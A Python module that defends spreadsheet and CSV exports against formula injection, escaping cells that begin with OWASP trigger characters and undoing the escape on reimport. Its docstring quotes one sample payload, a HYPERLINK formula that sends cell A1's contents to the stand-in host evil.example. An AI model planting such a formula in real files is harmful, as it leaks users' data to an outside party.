"""Text that a spreadsheet program would run as a formula (CSV or formula injection).

A target's name such as ``=HYPERLINK("http://evil.example/?x="&A1,"Click")``, typed or
imported as text, must come out of every workbook and CSV file the system writes as the
same text, never as a live formula. OWASP's guidance ("CSV Injection"): a cell whose text
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is dangerous; in a CSV file
it is written with a leading apostrophe, which spreadsheet programs read as "this is text".
Plain numbers (``-1,5``, ``+3``) are left alone: they are figures, not formulas.

In a workbook the text is kept as it is, stored as text with Excel's own "quote prefix"
(what Excel does when a person types ``'=…``), so that the file reads back unchanged.
"""

from __future__ import annotations

import re

#: The first characters that make a spreadsheet program read a cell as a formula (OWASP),
#: and their full-width forms, which some programs fold to the ASCII ones.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

_PLAIN_NUMBER = re.compile(r"[+-]?(\d[\d.,\s]*)?\d%?|[+-]?\d")


def formula_risk(text: str) -> bool:
    """True when ``text`` would be read as a formula by a spreadsheet program."""
    if not text or not text.startswith(TRIGGERS):
        return False
    return not _PLAIN_NUMBER.fullmatch(text.strip())


def csv_cell(text: str) -> str:
    """The text for a CSV cell: a dangerous one gets a leading apostrophe (OWASP)."""
    return "'" + text if formula_risk(text) else text


def csv_uncell(text: str) -> str:
    """The text of a cell written by :func:`csv_cell` (the apostrophe removed), so that a
    file exported and sent back changes nothing."""
    if text.startswith("'") and formula_risk(text[1:]):
        return text[1:]
    return text
